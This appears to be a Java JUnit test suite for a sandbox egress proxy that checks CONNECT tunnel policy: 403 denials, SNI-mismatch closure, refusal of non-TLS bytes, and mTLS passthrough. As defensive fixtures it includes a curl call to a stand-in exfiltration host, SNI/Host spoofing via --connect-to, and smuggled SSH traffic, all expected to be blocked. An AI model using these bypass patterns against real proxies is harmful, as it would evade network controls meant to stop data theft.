package dev.sbx.proxy.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sbx.proxy.log.LogRecord;
import dev.sbx.proxy.tls.ProxyCa;
import io.netty.handler.ssl.ClientAuth;
import io.netty.handler.ssl.SslContextBuilder;
import java.security.KeyStore;
import java.security.cert.Certificate;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManagerFactory;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Opaque CONNECT tunnels (checklist A, D) with real curl and a JDK TLS client. */
class TunnelTest {
  @TempDir Path tmp;
  Harness h;
  Origin npm;
  ScriptedResolver resolver = new ScriptedResolver();

  @BeforeEach
  void setUp() throws Exception {
    h = new Harness(tmp);
    npm = h.tls("registry.npmjs.org");
    h.tls("evil.com");
    h.resolve("refused.example:443=127.0.0.1:1");
    h.rules("allow *.npmjs.org", "allow refused.example");
    h.start(c -> c.withResolver(resolver));
  }

  @AfterEach
  void tearDown() throws Exception {
    h.close();
  }

  private String curlGet(String url, String... extra) throws Exception {
    List<String> args = new java.util.ArrayList<>(List.of("-x", h.proxyUrl(), "--cacert", h.originCaFile.toString()));
    args.addAll(List.of(extra));
    args.add(url);
    return Curl.run(args).codes();
  }

  @Test
  void p4OpaqueTunnelShowsOriginCertificateAndNeverMints() throws Exception {
    // Trusting only the origin CA proves the client saw the origin's own certificate.
    Curl.Result r = Curl.run("-x", h.proxyUrl(), "--cacert", h.originCaFile.toString(), "https://registry.npmjs.org/pkg");
    assertEquals("200 200 0", r.codes(), r.err());
    assertTrue(r.body().startsWith("REQUEST GET /pkg"), r.body());
    assertEquals(0, h.proxy.leafMints());
    LogRecord rec = h.awaitLog(l -> "CONNECT".equals(l.method()) && "allow".equals(l.decision()));
    assertEquals("tunnel", rec.mode());
    assertTrue(rec.bytesUp() > 0 && rec.bytesDown() > 0, rec.toString());
  }

  @Test
  void p1p11p27DeniedConnectIs403BeforeAnyTunnelWithoutLookup() throws Exception {
    Curl.Result r = Curl.run("-x", h.proxyUrl(), "-v", "https://exfil-secretdata.attacker.test/");
    assertEquals("000 403 56", r.codes(), r.err());
    assertTrue(r.err().contains("Blocked by network policy: exfil-secretdata.attacker.test:443 (rule: default deny)")
        || r.err().contains("403"), r.err());
    assertTrue(resolver.calls.isEmpty(), "resolver called: " + resolver.calls);
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n").readAll();
      assertTrue(resp.startsWith(
          "HTTP/1.1 403 Blocked by network policy: example.org:443 (rule: default deny)\r\n"), resp);
      assertTrue(resp.contains("X-Proxy-Error: blocked-by-policy"), resp);
      assertTrue(resp.endsWith("\r\n\r\nBlocked by network policy: example.org:443 (rule: default deny)\n"), resp);
    }
    LogRecord rec = h.awaitLog(l -> "example.org".equals(l.host()));
    assertEquals("deny", rec.decision());
    assertEquals("default-deny", rec.reason());
  }

  @Test
  void p40SniMismatchClosesTunnelAndNoRequestReachesOrigin() throws Exception {
    // CONNECT registry.npmjs.org:443 while SNI and Host say evil.com.
    String codes = curlGet("https://evil.com/", "--connect-to", "evil.com:443:registry.npmjs.org:443");
    assertTrue(codes.startsWith("000 200 "), codes);
    assertTrue(npm.seen.isEmpty());
    LogRecord rec = h.awaitLog(l -> "deny".equals(l.decision()) && "tls-check".equals(l.reason()));
    assertTrue(rec.detail().contains("evil.com"), rec.toString());
  }

  @Test
  void p41NoSniIsRelayed() throws Exception {
    StringBuilder answer = new StringBuilder();
    Socket s = TunnelClient.connect(h.address(), "registry.npmjs.org:443", answer);
    assertTrue(answer.toString().startsWith("HTTP/1.1 200 "), answer.toString());
    // No SNI: the origin's certificate is still checked against the origin CA by the client.
    try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, null, List.of("http/1.1"))) {
      tls.getOutputStream().write("GET /nosni HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
          .getBytes(StandardCharsets.US_ASCII));
      String resp = new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
      assertTrue(resp.contains("REQUEST GET /nosni"), resp);
    }
  }

  @Test
  void p42ClientHelloOneBytePerWriteStillChecked() throws Exception {
    try (Trickler t = new Trickler(h.address())) {
      InetSocketAddress via = new InetSocketAddress("127.0.0.1", t.port());
      Socket s = TunnelClient.connect(via, "registry.npmjs.org:443", new StringBuilder());
      try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, "registry.npmjs.org", null)) {
        tls.getOutputStream().write("GET /slow HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
            .getBytes(StandardCharsets.US_ASCII));
        assertTrue(new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1).contains("REQUEST GET /slow"));
      }
    }
    try (Trickler t = new Trickler(h.address())) {
      InetSocketAddress via = new InetSocketAddress("127.0.0.1", t.port());
      Socket s = TunnelClient.connect(via, "registry.npmjs.org:443", new StringBuilder());
      assertThrows(IOException.class, () -> TunnelClient.tls(s, h.originCaFile, "evil.com", null).close());
    }
    assertEquals(1, npm.seen.size());
  }

  @Test
  void p55NonTlsBytesAfterConnectAreNeverRelayed() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      c.send("CONNECT registry.npmjs.org:443 HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n");
      String resp = c.readAll();
      assertTrue(resp.startsWith("HTTP/1.1 200 "), resp);
      assertEquals("HTTP/1.1 200 Connection established\r\n\r\n", resp);
    }
    try (RawClient c = new RawClient(h.address())) {
      c.send("CONNECT registry.npmjs.org:443 HTTP/1.1\r\n\r\n");
      Thread.sleep(50);
      c.send("SSH-2.0-OpenSSH_9.2\r\n");
      assertTrue(c.readAll().startsWith("HTTP/1.1 200 "));
    }
    assertTrue(npm.seen.isEmpty());
  }

  @Test
  void p57UpstreamRefusalIs502NeverA200() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT refused.example:443 HTTP/1.1\r\n\r\n").readAll();
      assertTrue(resp.startsWith("HTTP/1.1 502 "), resp);
    }
  }

  @Test
  void p58Http10ConnectWithoutHostAccepted() throws Exception {
    try (RawClient c = new RawClient(h.address())) {
      String resp = c.send("CONNECT registry.npmjs.org:443 HTTP/1.0\r\n\r\n").readAll();
      assertTrue(resp.startsWith("HTTP/1.1 200 "), resp);
    }
  }

  @Test
  void p30p41UppercaseDottedConnectWorksAndJdkSniMismatchIsClosed() throws Exception {
    StringBuilder answer = new StringBuilder();
    Socket s = TunnelClient.connect(h.address(), "REGISTRY.npmjs.org.:443", answer);
    assertTrue(answer.toString().startsWith("HTTP/1.1 200 "), answer.toString());
    try (SSLSocket tls = TunnelClient.tls(s, h.originCaFile, "registry.npmjs.org", null)) {
      tls.getOutputStream().write("GET /x HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n"
          .getBytes(StandardCharsets.US_ASCII));
      assertTrue(new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1).contains("REQUEST GET /x"));
    }
    Socket s2 = TunnelClient.connect(h.address(), "registry.npmjs.org:443", new StringBuilder());
    assertThrows(IOException.class, () -> TunnelClient.tls(s2, h.originCaFile, "files.pythonhosted.org", null).close());
  }

  @Test
  void p11PythonHttpClientQuotesTheBlockMessage() throws Exception {
    // Python's http.client (Debian package python3) reports only the CONNECT status line.
    String script = String.join("\n",
        "import http.client, sys",
        "c = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), timeout=10)",
        "c.set_tunnel('example.org', 443)",
        "try:",
        "    c.request('GET', '/')",
        "except OSError as e:",
        "    print(e)");
    Process p = new ProcessBuilder("python3", "-c", script, String.valueOf(h.address().getPort()))
        .redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertEquals(0, p.waitFor(), out);
    assertTrue(out.contains("403 Blocked by network policy: example.org:443 (rule: default deny)"), out);
    assertEquals("000 403 56", Curl.run("-x", h.proxyUrl(), "https://example.org/").codes());
  }

  @Test
  void p56MutualTlsClientGetsAnOpaqueTunnelToTheOrigin() throws Exception {
    // An origin that requires a client certificate: only an untouched tunnel can carry the handshake.
    ProxyCa.Leaf server = h.originCa.mintLeaf("mtls.npmjs.org");
    ProxyCa.Leaf client = h.originCa.mintLeaf("agent.example");
    Origin mtls = new Origin(SslContextBuilder.forServer(server.key(), server.certificate(), server.issuer())
        .clientAuth(ClientAuth.REQUIRE)
        // any client certificate will do (ours are serverAuth leaves); REQUIRE fails the handshake without one
        .trustManager(io.netty.handler.ssl.util.InsecureTrustManagerFactory.INSTANCE).build());
    try (Harness h2 = new Harness(tmp.resolve("mtls"))) {
      h2.resolve("mtls.npmjs.org:443=127.0.0.1:" + mtls.port()).rules("allow mtls.npmjs.org:443");
      h2.start();
      KeyStore ks = KeyStore.getInstance("PKCS12");
      ks.load(null, null);
      ks.setKeyEntry("me", client.key(), new char[0], new Certificate[] {client.certificate(), client.issuer()});
      KeyManagerFactory kmf = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
      kmf.init(ks, new char[0]);
      KeyStore trust = KeyStore.getInstance("PKCS12");
      trust.load(null, null);
      trust.setCertificateEntry("origin-ca", h.originCa.certificate()); // pinned: the proxy's CA is not trusted
      TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
      tmf.init(trust);
      SSLContext ctx = SSLContext.getInstance("TLS");
      ctx.init(kmf.getKeyManagers(), tmf.getTrustManagers(), null);
      StringBuilder answer = new StringBuilder();
      Socket raw = TunnelClient.connect(h2.address(), "mtls.npmjs.org:443", answer);
      assertTrue(answer.toString().startsWith("HTTP/1.1 200 "), answer.toString());
      try (SSLSocket tls = (SSLSocket) ctx.getSocketFactory().createSocket(raw, "mtls.npmjs.org", 443, true)) {
        tls.getOutputStream().write("GET /mtls HTTP/1.1\r\nHost: mtls.npmjs.org\r\nConnection: close\r\n\r\n"
            .getBytes(StandardCharsets.US_ASCII));
        String resp = new String(tls.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        assertTrue(resp.contains("REQUEST GET /mtls"), resp);
        assertEquals(server.certificate(), tls.getSession().getPeerCertificates()[0]);
      }
      assertEquals(0, h2.proxy.leafMints());
      // host and port are still checked for such clients
      try (RawClient c = new RawClient(h2.address())) {
        assertTrue(c.send("CONNECT mtls.npmjs.org:8443 HTTP/1.1\r\n\r\n").readAll().startsWith("HTTP/1.1 403 "));
      }
      try (RawClient c = new RawClient(h2.address())) {
        assertTrue(c.send("CONNECT mtls.example:443 HTTP/1.1\r\n\r\n").readAll().startsWith("HTTP/1.1 403 "));
      }
    } finally {
      mtls.close();
    }
  }
}
